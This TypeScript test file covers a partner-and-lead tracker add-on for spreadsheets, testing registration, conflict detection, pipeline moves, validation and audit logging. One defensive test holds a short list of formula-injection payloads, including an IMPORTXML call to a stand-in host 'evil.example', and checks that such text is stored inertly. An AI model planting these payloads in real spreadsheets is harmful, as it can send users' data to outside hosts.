import { LeadList, LeadView, RegisterLeadResult } from '../../src/sidebar-api/contract';
import { Tracker, restoredFixture, trackerOnBundle } from '../support/tracker';

/** Partners and leads through the sidebar endpoints of the built add-on, on the emulator. */
let t: Tracker;
let acme: string;
let globex: string;

/** Built once for the file; each test starts from a copy restored from its snapshot. */
const fresh = restoredFixture(() => {
  t = trackerOnBundle();
  acme = t.addPartner({ name: 'Acme Partners', code: 'acme', contactEmail: 'pat@acmepartners.example' }).id;
  globex = t.addPartner({ name: 'Globex Resellers', code: 'GLOBEX-1', contactEmail: 'gina@globex.example', type: 'Referral' }).id;
  return { t, acme, globex };
});

beforeEach(() => {
  ({ t, acme, globex } = fresh());
});

const register = (input: Record<string, unknown>) =>
  t.api<RegisterLeadResult>('apiRegisterLead', {
    partnerId: acme,
    company: 'Initech',
    website: 'https://www.initech.co.uk/about',
    contactEmail: 'bill@initech.co.uk',
    ...input,
  });

describe('partners', () => {
  test('are added with the next ID, today as joined date, and the code upper-cased', () => {
    expect([acme, globex]).toEqual(['P-000001', 'P-000002']);
    const [first] = t.rows('Partners');
    expect(first).toMatchObject({ 'Partner ID': 'P-000001', Name: 'Acme Partners', 'Partner Code': 'ACME', Status: 'Active', Tier: 'Registered', Joined: '2026-03-01' });
  });

  test('are edited in place; each changed field is audited', () => {
    const audit = t.rows('Audit Log').length;
    t.ok('apiSavePartner', { id: acme, name: 'Acme Partners Ltd', code: 'ACME', contactEmail: 'pat@acmepartners.example', type: 'Reseller', status: 'Paused' });
    expect(t.rows('Partners')[0]).toMatchObject({ Name: 'Acme Partners Ltd', Status: 'Paused' });
    const added = t.rows('Audit Log').slice(audit);
    expect(added.map((r) => [r['Record ID'], r.Field, r['Old Value'], r['New Value']])).toEqual([
      ['P-000001', 'name', 'Acme Partners', 'Acme Partners Ltd'],
      ['P-000001', 'status', 'Active', 'Paused'],
    ]);
  });

  test('refuse a code already taken (any case), a bad email and an unknown region, with field errors', () => {
    const clash = t.api('apiSavePartner', { name: 'Other', code: 'Acme', contactEmail: 'o@other.example', type: 'Affiliate' });
    expect(clash).toMatchObject({ ok: false, error: { fieldErrors: { code: 'Partner code ACME is already used by Acme Partners (P-000001)' } } });
    const bad = t.api('apiSavePartner', { name: 'Other', code: 'OTHER', contactEmail: 'not-an-email', type: 'Affiliate', region: 'Mars' });
    expect(bad).toMatchObject({ ok: false, error: { fieldErrors: { contactEmail: 'Contact email must be an email address like name@company.com' } } });
    const region = t.api('apiSavePartner', { name: 'Other', code: 'OTHER', contactEmail: 'o@other.example', type: 'Affiliate', region: 'Mars' });
    expect(region).toMatchObject({ ok: false, error: { fieldErrors: { region: expect.stringContaining('Region "Mars" is not on the Lists tab') } } });
    expect(t.rows('Partners')).toHaveLength(2);
  });
});

describe('registering a lead from the sidebar', () => {
  test('appends it New, protected for the window, with its registrable domain, and audits it', () => {
    const result = register({ estimatedValue: '12,500.50', expectedClose: '2026-06-30', product: 'Core Platform' });
    expect(result).toMatchObject({
      ok: true,
      data: {
        conflict: null,
        lead: { id: 'L-000001', status: 'New', protectedUntil: '2026-05-30', domain: 'initech.co.uk', source: 'sidebar', partnerName: 'Acme Partners', estimatedValue: 12500.5 },
      },
    });
    const [row] = t.rows('Leads');
    expect(row).toMatchObject({
      'Lead ID': 'L-000001',
      'Registered At (UTC)': '2026-03-01 15:00:00',
      'Partner ID': acme,
      Company: 'Initech',
      'Company Domain': 'initech.co.uk',
      'Estimated Value': '12,500.50',
      'Expected Close': '2026-06-30',
      Status: 'New',
      Source: 'sidebar',
      'Protected Until': '2026-05-30',
    });
    const audit = t.rows('Audit Log').pop() as Record<string, string>;
    expect(audit).toMatchObject({ Source: 'sidebar', Tab: 'Leads', 'Record ID': 'L-000001', Field: '(new lead)', User: 'owner@example.com' });
    expect(audit.Hash).toMatch(/^[0-9a-f]{64}$/);
  });

  test('a later registration of the same company by another partner is saved as a Conflict with the reason', () => {
    register({});
    t.emu.clock.advance(60 * 60 * 1000);
    const second = register({ partnerId: globex, company: 'Initech Holdings', website: 'sales.initech.co.uk', contactEmail: 'peter@gmail.com' });
    expect(second).toMatchObject({ ok: true, data: { lead: { id: 'L-000002', status: 'Conflict', conflictWith: 'L-000001', protectedUntil: '' } } });
    const reason = 'same domain initech.co.uk as L-000001, registered by Acme Partners on 2026-03-01';
    expect((second as { data: RegisterLeadResult }).data.conflict).toBe(reason);
    expect(t.rows('Leads')[1]).toMatchObject({ Status: 'Conflict', 'Conflict With': 'L-000001', 'Status Reason': reason });
  });

  test('the contact email domain collides, but a free-mail domain does not', () => {
    register({ website: '' });
    const byEmail = register({ partnerId: globex, company: 'Totally Different', website: '', contactEmail: 'x@initech.co.uk' });
    expect(byEmail).toMatchObject({ ok: true, data: { lead: { status: 'Conflict', conflictWith: 'L-000001' } } });
    register({ company: 'Hooli', website: '', contactEmail: 'gavin@gmail.com' });
    const freeMail = register({ partnerId: globex, company: 'Pied Piper', website: '', contactEmail: 'richard@gmail.com' });
    expect(freeMail).toMatchObject({ ok: true, data: { lead: { status: 'New' } } });
  });

  test('a similar company name collides; expired and closed leads own nothing', () => {
    register({ company: 'Northwind Traders Inc.', website: '', contactEmail: 'a@nw.example' });
    const similar = register({ partnerId: globex, company: 'Northwind Trader', website: '', contactEmail: 'b@other.example' });
    expect(similar).toMatchObject({ ok: true, data: { lead: { status: 'Conflict', conflictWith: 'L-000001' } } });
    t.ok('apiMoveLead', 'L-000001', { to: 'Rejected', reason: 'Not a fit' });
    const after = register({ partnerId: globex, company: 'Northwind Traders', website: '', contactEmail: 'c@other.example' });
    expect(after).toMatchObject({ ok: true, data: { lead: { status: 'New' } } });
  });

  test('refuses an inactive partner, an unknown product and bad fields with field errors, writing nothing', () => {
    t.ok('apiSavePartner', { id: globex, name: 'Globex Resellers', code: 'GLOBEX-1', contactEmail: 'gina@globex.example', type: 'Referral', status: 'Terminated' });
    expect(register({ partnerId: globex })).toMatchObject({ ok: false, error: { fieldErrors: { partnerId: expect.stringContaining('is Terminated; only active partners can register leads') } } });
    expect(register({ product: 'Time Machine' })).toMatchObject({ ok: false, error: { fieldErrors: { product: expect.stringContaining('Product "Time Machine" is not on the Lists tab') } } });
    const bad = register({ company: '  ', contactEmail: 'bill@', website: 'not a site', estimatedValue: '-5', expectedClose: '2026-02-30' });
    expect(bad).toMatchObject({
      ok: false,
      error: {
        fieldErrors: {
          company: 'Company is required',
          contactEmail: 'Contact email must be an email address like name@company.com',
          website: 'Company website must be a web address like acme.com or https://www.acme.com',
          estimatedValue: 'Estimated deal value must not be negative',
          expectedClose: 'Expected close date must be a date written YYYY-MM-DD',
        },
      },
    });
    expect(t.rows('Leads')).toHaveLength(0);
  });
});

describe('moving leads along the pipeline', () => {
  const move = (id: string, body: Record<string, unknown>) => t.api<LeadView>('apiMoveLead', id, body);

  test('New → Accepted → Qualified → Closed Won records the deal and audits each field', () => {
    register({});
    expect(move('L-000001', { to: 'Accepted' })).toMatchObject({ ok: true, data: { status: 'Accepted', nextStatuses: ['Qualified', 'Closed Lost'] } });
    expect(move('L-000001', { to: 'Qualified' })).toMatchObject({ ok: true, data: { status: 'Qualified' } });
    const won = move('L-000001', { to: 'Closed Won', dealAmount: '48,000', closedOn: '2026-03-01' });
    expect(won).toMatchObject({ ok: true, data: { status: 'Closed Won', dealAmount: 48000, closedOn: '2026-03-01', nextStatuses: ['Refunded'] } });
    expect(t.rows('Leads')[0]).toMatchObject({ Status: 'Closed Won', 'Deal Amount': '48,000.00', 'Closed On': '2026-03-01' });
    const fields = t
      .rows('Audit Log')
      .filter((r) => r['Record ID'] === 'L-000001')
      .map((r) => `${r.Field}:${r['New Value']}`);
    expect(fields.slice(1)).toEqual([
      'status:Accepted',
      'status:Qualified',
      'status:Closed Won',
      'dealAmount:48000',
      'closedOn:2026-03-01',
      expect.stringMatching(/^\(no commission\):No commission rule applies to L-000001/),
    ]);
  });

  test('illegal moves are refused with what is allowed; missing inputs are field errors', () => {
    register({});
    expect(move('L-000001', { to: 'Closed Won', dealAmount: 10, closedOn: '2026-03-01' })).toEqual({
      ok: false,
      error: { message: 'L-000001 is New; it cannot move to Closed Won. From New it can move to Accepted or Rejected.', fieldErrors: {} },
    });
    expect(move('L-000001', { to: 'Rejected' })).toMatchObject({ ok: false, error: { fieldErrors: { reason: 'Reason is required' } } });
    move('L-000001', { to: 'Accepted' });
    move('L-000001', { to: 'Qualified' });
    expect(move('L-000001', { to: 'Closed Won', closedOn: '2026-03-01' })).toMatchObject({ ok: false, error: { fieldErrors: { dealAmount: 'Deal amount is required' } } });
    expect(move('L-000001', { to: 'Closed Won', dealAmount: 0, closedOn: '2026-03-01' })).toMatchObject({
      ok: false,
      error: { fieldErrors: { dealAmount: 'Deal amount must be greater than zero for a Closed Won deal.' } },
    });
    expect(move('L-000001', { to: 'Closed Won', dealAmount: 5, closedOn: '2026-03-09' })).toMatchObject({ ok: false, error: { fieldErrors: { closedOn: 'Close date 2026-03-09 is in the future.' } } });
    expect(move('L-000009', { to: 'Accepted' })).toMatchObject({ ok: false, error: { message: 'There is no lead L-000009; it may have been deleted from the Leads tab.' } });
    expect(t.rows('Leads')[0].Status).toBe('Qualified');
  });

  test('accepting a conflict overrides the match and protects it from today', () => {
    register({});
    register({ partnerId: globex, company: 'Initech' });
    t.emu.clock.set('2026-03-10T12:00:00Z');
    expect(move('L-000002', { to: 'Accepted', reason: 'Different division' })).toMatchObject({
      ok: true,
      data: { status: 'Accepted', protectedUntil: '2026-06-08', statusReason: 'Different division' },
    });
  });
});

describe('listing leads', () => {
  test('filters by status, partner and search, newest first, with a total', () => {
    register({ company: 'Initech' });
    t.emu.clock.advance(1000);
    register({ partnerId: globex, company: 'Hooli', website: 'hooli.example', contactEmail: 'g@hooli.example' });
    t.emu.clock.advance(1000);
    register({ company: 'Umbrella', website: 'umbrella.example', contactEmail: 'a@umbrella.example' });
    t.ok('apiMoveLead', 'L-000003', { to: 'Rejected', reason: 'Duplicate of CRM record' });
    const open = t.ok<LeadList>('apiListLeads', {});
    expect(open.leads.map((l) => l.id)).toEqual(['L-000002', 'L-000001']);
    expect(t.ok<LeadList>('apiListLeads', { status: 'all' }).leads.map((l) => l.id)).toEqual(['L-000003', 'L-000002', 'L-000001']);
    expect(t.ok<LeadList>('apiListLeads', { status: 'all', partnerId: acme }).leads.map((l) => l.id)).toEqual(['L-000003', 'L-000001']);
    expect(t.ok<LeadList>('apiListLeads', { status: 'all', search: 'HOOLI' }).leads.map((l) => l.id)).toEqual(['L-000002']);
    expect(t.ok<LeadList>('apiListLeads', { status: 'all', limit: 1 })).toMatchObject({ total: 3, leads: [{ id: 'L-000003' }] });
    expect(t.api('apiListLeads', { status: 'Bogus' })).toMatchObject({ ok: false });
  });
});

describe('formula injection', () => {
  const hostile = ['=IMPORTXML("http://evil.example","//a")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '=HYPERLINK("http://x","y")'];

  test('no user text from the sidebar ever becomes a formula, and it is stored as typed (trimmed)', () => {
    hostile.forEach((text, i) => {
      t.addPartner({ name: text, code: `EVIL${i}`, contactName: text, notes: text });
      const result = register({ company: `${text} Corp ${i}`, contactName: text, notes: text, website: '', contactEmail: `x${i}@evil${i}.example` });
      expect(result.ok).toBe(true);
    });
    for (const name of ['Partners', 'Leads', 'Audit Log']) {
      const s = t.sheet(name);
      const range = s.getRange(1, 1, s.getLastRow(), s.getLastColumn());
      expect(range.getFormulas().flat().filter(Boolean)).toEqual([]);
    }
    const leads = t.rows('Leads');
    hostile.forEach((text, i) => {
      expect(leads[i].Notes).toBe(text.trim());
      expect(leads[i]['Contact Name']).toBe(text.trim());
      expect(leads[i].Company).toBe(`${text.trim()} Corp ${i}`);
    });
  });
});

describe('amounts typed in the sheet have the bounds every other path has', () => {
  const col = (header: string) => String.fromCharCode(64 + (t.sheet('Leads').getRange(1, 1, 1, t.sheet('Leads').getLastColumn()).getValues()[0] as string[]).indexOf(header) + 1);

  test("a phone number typed as a Deal Amount is refused by the column's rule; where an older tracker has no such rule, it is put back, told and kept in the Audit Log", () => {
    register({});
    const cell = `Leads!${col('Deal Amount')}2`;
    expect(t.emu.editAsUser(cell, '25000', 'owner@example.com').accepted).toBe(true);
    expect(t.emu.editAsUser(cell, '493123456789', 'owner@example.com')).toMatchObject({ accepted: false, reason: expect.stringContaining('Enter an amount from 0 to 1,000,000,000.00.') });
    // A tracker set up before the bound: the column's rule only asks for 0 or more.
    t.sheet('Leads')
      .getRange(`${col('Deal Amount')}2`)
      .clearDataValidations();
    expect(t.emu.editAsUser(cell, '493123456789', 'owner@example.com').accepted).toBe(true);
    expect(t.rows('Leads')[0]['Deal Amount']).toBe('25,000.00');
    expect(t.emu.services.ui.toasts.pop()?.message).toBe(`Leads ${col('Deal Amount')}2: Deal Amount must be at most 1,000,000,000.00; put back to 25000. What was typed is in the Audit Log.`);
    expect(
      t
        .rows('Audit Log')
        .filter((r) => r.Field === '(put back)')
        .map((r) => [r.Range, r['Old Value'], r['New Value']]),
    ).toEqual([[`${col('Deal Amount')}2`, '493,123,456,789.00', '25000: Deal Amount must be at most 1,000,000,000.00']]);
  });

  test('a paste over several amounts clears the ones the rules let through but the tracker cannot take (Google gives no old values) and keeps the good ones', () => {
    register({});
    register({ company: 'Hooli', website: 'hooli.example', contactEmail: 'x@hooli.example' });
    const est = col('Estimated Value');
    expect(t.emu.editAsUser(`Leads!${est}2:${est}3`, [['1200'], ['12.345']], 'owner@example.com').accepted).toBe(true);
    expect(t.rows('Leads').map((r) => r['Estimated Value'])).toEqual(['1,200.00', '']);
    expect(t.emu.services.ui.toasts.pop()?.message).toBe(
      `Leads ${est}3: Estimated Value must have at most two decimal places; cleared (Google does not say what a paste replaced). What was typed is in the Audit Log.`,
    );
    expect(
      t
        .rows('Audit Log')
        .filter((r) => r.Field === '(put back)')
        .map((r) => r['Old Value']),
    ).toEqual(['12.345']);
  });
});

describe('no lost updates: a move decided on what has changed meanwhile is refused, saying what changed', () => {
  test('a partner manager closes a deal as lost from a view where it was Accepted, after a teammate qualified it: refused, nothing written', () => {
    register({});
    const id = t.rows('Leads')[0]['Lead ID'];
    t.ok('apiMoveLead', id, { to: 'Accepted' });
    const seen = { status: 'Accepted', statusReason: '', dealAmount: null, closedOn: '' };
    t.ok('apiMoveLead', id, { to: 'Qualified', reason: 'budget confirmed' }, seen);
    const audit = t.rows('Audit Log').length;
    const stale = t.api('apiMoveLead', id, { to: 'Closed Lost', reason: 'no budget' }, seen);
    expect(stale).toEqual({
      ok: false,
      error: {
        message: `${id} changed since you opened it: its status is now "Qualified" (you saw "Accepted"); its reason is now "budget confirmed" (you saw blank). Nothing was changed; the lead now shows what it is — decide again from there.`,
        fieldErrors: { seen: expect.stringContaining('changed since you opened it') },
      },
    });
    expect(t.rows('Leads')[0].Status).toBe('Qualified');
    expect(t.rows('Audit Log')).toHaveLength(audit);
    // Decided again on what it is now, it goes through; a caller that sends no view (a script) is not checked.
    expect(t.api('apiMoveLead', id, { to: 'Closed Lost', reason: 'no budget' }, { status: 'Qualified', statusReason: 'budget confirmed', dealAmount: null, closedOn: '' })).toMatchObject({ ok: true });
  });

  test('the same move again with a request ID: a retry of what the person saw before is answered ok; from a view that already shows it, it is refused as an illegal move', () => {
    register({});
    const id = t.rows('Leads')[0]['Lead ID'];
    const fresh = { status: 'New', statusReason: '', dealAmount: null, closedOn: '' };
    expect(t.api('apiMoveLead', id, { to: 'Accepted' }, fresh, { requestId: 'req-sameaaaa01' })).toMatchObject({ ok: true });
    // Sent again under a new ID from the same view (the first answer was lost): the move is made; nothing more is written.
    const audit = t.rows('Audit Log').length;
    expect(t.api('apiMoveLead', id, { to: 'Accepted' }, fresh, { requestId: 'req-sameaaaa02' })).toMatchObject({ ok: true, data: { status: 'Accepted' } });
    expect(t.rows('Audit Log')).toHaveLength(audit);
    const accepted = { status: 'Accepted', statusReason: '', dealAmount: null, closedOn: '' };
    expect(t.api('apiMoveLead', id, { to: 'Accepted' }, accepted, { requestId: 'req-sameaaaa03' })).toMatchObject({ ok: false, error: { message: expect.stringMatching(/Accepted/) } });
  });
});
